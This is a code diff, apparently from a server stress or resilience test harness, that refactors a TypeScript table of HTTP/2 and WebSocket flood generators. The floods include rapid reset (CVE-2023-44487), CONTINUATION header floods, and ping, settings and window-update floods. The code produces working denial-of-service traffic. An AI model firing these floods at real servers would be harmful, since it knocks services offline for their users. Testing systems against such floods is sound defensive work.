@@ -77,50 +77,56 @@ const nextStream = (): number => {
   stream = stream + 2 > 2 ** 31 ? 1 : stream + 2;
   return now;
 };
-const repeat =
-  (make: () => Buffer): (() => Buffer) =>
+/** The same frame again and again, in pieces that are made once. */
+const repeat = (one: Buffer): (() => Buffer) => {
+  const piece = Buffer.alloc(Math.ceil(PIECE_BYTES / one.length) * one.length, one);
+  return () => piece;
+};
+/** Frames that differ, for example because they have the number of a stream. */
+const vary =
+  (make: () => readonly Buffer[]): (() => Buffer) =>
   () => {
     const pieces: Buffer[] = [];
-    for (let bytes = 0; bytes < PIECE_BYTES;) {
-      const one = make();
-      bytes += one.length;
-      pieces.push(one);
-    }
+    for (let bytes = 0; bytes < PIECE_BYTES;)
+      for (const one of make()) {
+        bytes += one.length;
+        pieces.push(one);
+      }
     return Buffer.concat(pieces);
   };
 
 const FLOODS: Readonly<Record<string, Flood>> = {
   "streams that are reset at once (CVE-2023-44487)": {
     begin: PREFACE,
-    piece: repeat(() => {
+    piece: vary(() => {
       const id = nextStream();
-      return Buffer.concat([frame("headers", END_HEADERS, id, REQUEST), frame("resetStream", 0, id, Buffer.alloc(4))]);
+      return [frame("headers", END_HEADERS, id, REQUEST), frame("resetStream", 0, id, Buffer.alloc(4))];
     }),
   },
   "headers without end (CONTINUATION)": {
     begin: Buffer.concat([PREFACE, frame("headers", 0, 1, REQUEST)]),
-    piece: repeat(() => frame("continuation", 0, 1, field("x-filler", "y".repeat(100)))),
+    piece: repeat(frame("continuation", 0, 1, field("x-filler", "y".repeat(100)))),
   },
   "empty headers without end": {
     begin: Buffer.concat([PREFACE, frame("headers", 0, 1, REQUEST)]),
-    piece: repeat(() => frame("continuation", 0, 1)),
+    piece: repeat(frame("continuation", 0, 1)),
   },
-  settings: { begin: PREFACE, piece: repeat(() => frame("settings", 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))) },
-  pings: { begin: PREFACE, piece: repeat(() => frame("ping", 0, 0, randomBytes(8))) },
+  settings: { begin: PREFACE, piece: repeat(frame("settings", 0, 0, Buffer.from([0, 3, 0, 0, 0, 100]))) },
+  pings: { begin: PREFACE, piece: repeat(frame("ping", 0, 0, randomBytes(8))) },
   "window updates": {
     begin: Buffer.concat([PREFACE, frame("headers", END_HEADERS, 1, REQUEST)]),
-    piece: repeat(() => frame("windowUpdate", 0, 1, Buffer.from([0, 0, 0, 1]))),
+    piece: repeat(frame("windowUpdate", 0, 1, Buffer.from([0, 0, 0, 1]))),
   },
-  "calls that never end": { begin: PREFACE, piece: repeat(() => frame("headers", END_HEADERS, nextStream(), REQUEST)) },
+  "calls that never end": { begin: PREFACE, piece: vary(() => [frame("headers", END_HEADERS, nextStream(), REQUEST)]) },
   "calls that end without data": {
     begin: PREFACE,
-    piece: repeat(() => frame("headers", END_HEADERS | END_STREAM, nextStream(), REQUEST)),
+    piece: vary(() => [frame("headers", END_HEADERS | END_STREAM, nextStream(), REQUEST)]),
   },
-  "pings over a WebSocket": { begin: UPGRADE, piece: repeat(() => webSocketFrame(9, randomBytes(100))) },
-  "empty messages over a WebSocket": { begin: UPGRADE, piece: repeat(() => webSocketFrame(2, Buffer.alloc(0))) },
+  "pings over a WebSocket": { begin: UPGRADE, piece: repeat(webSocketFrame(9, randomBytes(100))) },
+  "empty messages over a WebSocket": { begin: UPGRADE, piece: repeat(webSocketFrame(2, Buffer.alloc(0))) },
   "a WebSocket message in empty fragments": {
     begin: Buffer.concat([UPGRADE, Buffer.from([0x02, 0x80, 0, 0, 0, 0])]),
-    piece: repeat(() => Buffer.from([0x00, 0x80, 0, 0, 0, 0])),
+    piece: repeat(Buffer.from([0x00, 0x80, 0, 0, 0, 0])),
   },
 };
 
